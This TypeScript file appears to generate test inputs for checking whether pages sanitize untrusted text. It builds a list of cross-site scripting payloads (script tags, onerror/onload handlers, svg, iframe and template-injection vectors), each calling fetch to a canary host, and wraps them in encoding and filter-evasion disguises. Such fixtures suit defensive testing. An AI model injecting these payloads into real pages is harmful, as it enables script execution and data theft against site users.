/** Texts that run, or call out to `canary`, where a page takes them for more than text. */
export function makeHostileMarkup(canary: string): string[] {
  const run = `window.__pwn=1;fetch('${canary}/run')`
  return [
    `<script>${run}</script>`,
    `</script><script>${run}</script>`,
    `</title></style></textarea><script>${run}</script>`,
    `--><script>${run}</script>`,
    `]]><script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `"><img src=x onerror="${run}">`,
    `'><img src=x onerror="${run}">`,
    `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
    `' autofocus onfocus='${run.replaceAll("'", '&apos;')}' x='`,
    `<svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`,
    `<iframe srcdoc="<script>${run.replaceAll('"', '&quot;')}</script>"></iframe>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<object data="${canary}/object"></object>`,
    `<embed src="${canary}/embed">`,
    `<link rel="stylesheet" href="${canary}/css">`,
    `<style>@import '${canary}/import';</style>`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<base href="${canary}/">`,
    `<form action="${canary}"><button autofocus>x</button></form><script>${run}</script>`,
    `<details open ontoggle="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<body onload="${run}">`,
    `<template><script>${run}</script></template><script>${run}</script>`,
    `\u003cscript\u003e${run}\u003c/script\u003e`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `<scr\0ipt>${run}</scr\0ipt><script\n>${run}</script\t>`,
    '${`${window.__pwn=1}`}{{constructor.constructor("window.__pwn=1")()}}',
  ]
}

/** `count` of them, each written in the ways that slip past a careless reading. */
export function makeHostileTexts(canary: string, count: number): string[] {
  const markup = makeHostileMarkup(canary)
  return Array.from({ length: count }, (_, rank) => {
    const disguise = disguises[Math.floor(rank / markup.length) % disguises.length]
    const text = markup[rank % markup.length] ?? ''
    return disguise ? disguise(text) : text
  })
}

const disguises: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.toUpperCase().replaceAll('WINDOW', 'window').replaceAll('FETCH', 'fetch'),
  (markup) => `${'x'.repeat(4_000)}${markup}`,
  (markup) => markup.replaceAll('<', '<<'),
  (markup) => markup.replaceAll('<', '\u00ad<'),
  (markup) => `\\"]}\n${markup}\n[{"`,
  (markup) => `\`\${"${markup}"}\``,
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  (markup) => markup.replaceAll('<', '%253C'),
  (markup) => markup.replaceAll(' ', '/'),
  (markup) => markup.replaceAll(' ', '\n'),
  (markup) => `*/;${markup};/*`,
  (markup) => `\u2028${markup}\u2029`,
  (markup) => `\u202e${markup}`,
  (markup) => `<!--${markup}`,
  (markup) => `<![CDATA[${markup}]]>`,
]
